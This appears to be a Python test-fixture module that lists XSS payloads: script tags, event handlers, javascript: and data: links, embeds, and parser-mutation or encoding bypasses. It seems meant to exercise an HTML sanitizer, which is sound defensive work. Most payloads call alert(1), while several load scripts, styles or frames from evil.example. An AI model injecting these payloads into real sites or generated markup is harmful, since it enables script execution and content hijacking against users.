"""Markup that would run a script, or load or hide something, were it handed on as it stands: each calls alert(1)."""

from __future__ import annotations

import itertools

RUN = "alert(1)"
CODED = "&#97;lert(1)"

SCRIPTS = (
    *(f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<script >{RUN}</script >", f"<script/x>{RUN}</script>"),
    *(f"<script\n>{RUN}</script\n>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<<script>{RUN}//<</script>"),
    *(f'<script type="module">{RUN}</script>', f"<script><!--\n{RUN}\n--></script>", f"<script>{RUN}"),
    *('<script src="data:text/javascript,alert(1)"></script>', '<script src="//evil.example/x.js"></script>'),
    *(
        f"<svg><script>{RUN}</script></svg>",
        f"<svg><script>{CODED}</script></svg>",
        f"<math><script>{RUN}</script></math>",
    ),
    *(f"<svg><script xlink:href='data:,{RUN}'/></svg>", f"<noscript><p title='</noscript><script>{RUN}</script>'>"),
    *(
        f"<title><script>{RUN}</script></title>",
        f"<textarea></textarea><script>{RUN}</script>",
        f"<xmp></xmp><script>{RUN}</script>",
    ),
    *(
        f"<template><script>{RUN}</script></template>",
        f"<style></style><script>{RUN}</script>",
        f"--><script>{RUN}</script>",
    ),
    *(
        f"]]><script>{RUN}</script>",
        f"<![CDATA[<script>{RUN}</script>]]>",
        f"<?xml version='1.0'?><script>{RUN}</script>",
    ),
    *(f"<!--><script>{RUN}</script>-->", f"<!-- --!><script>{RUN}</script>", f"<!doctype x [<script>{RUN}</script>]>"),
)
HANDLERS = tuple(
    pattern.format(RUN)
    for pattern in (
        *(
            "<img src=x onerror={}>",
            '<img src="x" onerror="{}">',
            "<img/src=x/onerror={}>",
            "<img src=x\nonerror\n=\n{}>",
        ),
        *(
            "<IMG SRC=x ONERROR={}>",
            "<img src=x onerror=`{}`>",
            "<img src='x' x='>' onerror={}>",
            "<image src=x onerror={}>",
        ),
        *(
            "<body onload={}>",
            "<body onpageshow={}>",
            "<svg onload={}>",
            "<svg/onload={}>",
            "<svg><g onload={}></g></svg>",
        ),
        *("<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set onbegin={} attributename=x></svg>"),
        *("<svg><a><rect onclick={} width=99 height=99></rect></a></svg>", "<svg><style onload={}></style></svg>"),
        *(
            "<input autofocus onfocus={}>",
            "<select autofocus onfocus={}>",
            "<textarea autofocus onfocus={}>",
            "<a id=x tabindex=1 onfocus={}>",
        ),
        *("<details open ontoggle={}>", "<video src=x onerror={}></video>", "<video><source onerror={}></video>"),
        *("<audio src=x onerror={}></audio>", "<object data=x onerror={}></object>", "<iframe onload={}></iframe>"),
        *(
            "<marquee onstart={}>x</marquee>",
            "<div onpointerover={}>x</div>",
            "<p onmouseover={}>x</p>",
            "<b onclick={}>x</b>",
        ),
        *(
            "<table onmouseenter={}><tr><td>x",
            "<td oncopy={}>x</td>",
            "<form oninput={}><input></form>",
            "<keygen autofocus onfocus={}>",
        ),
        *(
            "<div style='animation:x' onanimationstart={}>x</div>",
            "<p contenteditable oninput={}>x</p>",
            "<link rel=stylesheet href=x onerror={}>",
        ),
        *(
            '<a href="#" onclick="{}">x</a>',
            '<p id=x" onclick="{}">x</p>',
            "<p title='x' onclick='{}'>x</p>",
            "<x onclick={}>x</x>",
        ),
        *(
            "<math><mi onclick={}>x</mi></math>",
            "<dialog open onclose={}>x</dialog>",
            "<base onclick={}>",
            "<img alt='`' src=x onerror={}//`>",
        ),
    )
)
LINKS = tuple(
    f'<a href="{address}">länk</a>'
    for address in (
        *(
            f"javascript:{RUN}",
            f"JaVaScRiPt:{RUN}",
            f" javascript:{RUN}",
            f"java\tscript:{RUN}",
            f"java\nscript:{RUN}",
            f"\x01javascript:{RUN}",
        ),
        *(
            f"&#106;avascript:{RUN}",
            f"&#x6A;avascript&colon;{RUN}",
            f"javascript&#58;{RUN}",
            f"javascript:{CODED}",
            f"jav&#x09;ascript:{RUN}",
        ),
        *(
            f"javascript://a.example/%0a{RUN}",
            f"javascript:{RUN}//https://a.example/",
            f"javascript:{RUN}//a.pdf",
            f"vbscript:{RUN}",
            f"livescript:{RUN}",
        ),
        *(
            f"data:text/html,<script>{RUN}</script>",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            f"data:image/svg+xml,<svg onload={RUN}>",
        ),
        *(
            f"blob:{RUN}",
            f"filesystem:{RUN}",
            f"view-source:javascript:{RUN}",
            f"feed:javascript:{RUN}",
            f"intent:{RUN}",
            f"file:///etc/{RUN}",
        ),
    )
)
EMBEDS = (
    *(
        f'<iframe src="javascript:{RUN}"></iframe>',
        f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
        f'<embed src="javascript:{RUN}">',
    ),
    *(
        f'<object data="data:text/html,<script>{RUN}</script>"></object>',
        f'<form action="javascript:{RUN}"><button>x</button></form>',
    ),
    *(
        f'<button formaction="javascript:{RUN}">x</button>',
        f'<input type=image src=x formaction="javascript:{RUN}">',
        f'<isindex action="javascript:{RUN}">',
    ),
    *(
        f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    ),
    *(
        '<base href="https://evil.example/">',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        '<link rel=import href="data:text/html,x">',
    ),
    *(
        "<style>@import 'https://evil.example/x.css';</style>",
        f"<style>*{{background:url('javascript:{RUN}')}}</style>",
        f'<p style="width:expression({RUN})">x</p>',
    ),
    *(
        f'<p style="background:url(javascript:{RUN})">x</p>',
        '<p style="position:fixed;inset:0">x</p>',
        f'<math href="javascript:{RUN}">x</math>',
    ),
    *(
        f'<svg><a xlink:href="javascript:{RUN}"><text y=9>x</text></a></svg>',
        f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x"></use></svg>',
    ),
    *(
        f'<svg><image href="javascript:{RUN}"></image></svg>',
        f'<svg><foreignObject><iframe src="javascript:{RUN}"></iframe></foreignObject></svg>',
    ),
    *(
        f'<video poster="javascript:{RUN}"></video>',
        f'<table background="javascript:{RUN}"><tr><td>x</table>',
        f'<bgsound src="javascript:{RUN}">',
    ),
    *(
        f"<applet code='javascript:{RUN}'></applet>",
        '<frameset><frame src="https://evil.example/"></frameset>',
        "<portal src='https://evil.example/'></portal>",
    ),
)
BROKEN = (  # what comes to life only when a parser mends it, or when it is put into an attribute, a script or a feed
    *(
        f'"><script>{RUN}</script>',
        f"'><script>{RUN}</script>",
        f'" onfocus="{RUN}" autofocus="',
        f"' onfocus='{RUN}' autofocus='",
    ),
    *(
        f"</title><script>{RUN}</script>",
        f"</textarea><img src=x onerror={RUN}>",
        f"</style><img src=x onerror={RUN}>",
        f"</script><script>{RUN}</script>",
    ),
    *(
        f"&lt;script&gt;{RUN}&lt;/script&gt;",
        f"&amp;lt;script&amp;gt;{RUN}",
        f"&#60;script&#62;{RUN}&#60;/script&#62;",
        f"\\u003cscript\\u003e{RUN}",
    ),
    *(
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
        f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    ),
    *(
        f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={RUN} src>">',
        f"<p><svg><p><style><!--</style><img src=x onerror={RUN}>",
    ),
    *(
        f"<table><caption><script>{RUN}</script></caption></table>",
        f"<select><img src=x onerror={RUN}></select>",
        f"<p <img src=x onerror={RUN}>>",
        f"<img src='x' onerror={RUN} <p>",
    ),
    *(
        f"{{{{constructor.constructor('{RUN}')()}}}}",
        f"${{{RUN}}}",
        "{% raw %}{{ self }}{% endraw %}",
        f"<%= {RUN} %>",
        f"<a href='x'b='{RUN}'>",
        f"+ADw-script+AD4-{RUN}",
    ),
    *(
        f"\ufeff<script>{RUN}</script>",
        f"\u202e<script>{RUN}</script>",
        f"＜script＞{RUN}＜/script＞",
        f"<\u0000script>{RUN}</script>",
        f"<a\x0chref=javascript:{RUN}>x</a>",
    ),
)
VECTORS = tuple(dict.fromkeys(itertools.chain(SCRIPTS, HANDLERS, LINKS, EMBEDS, BROKEN)))
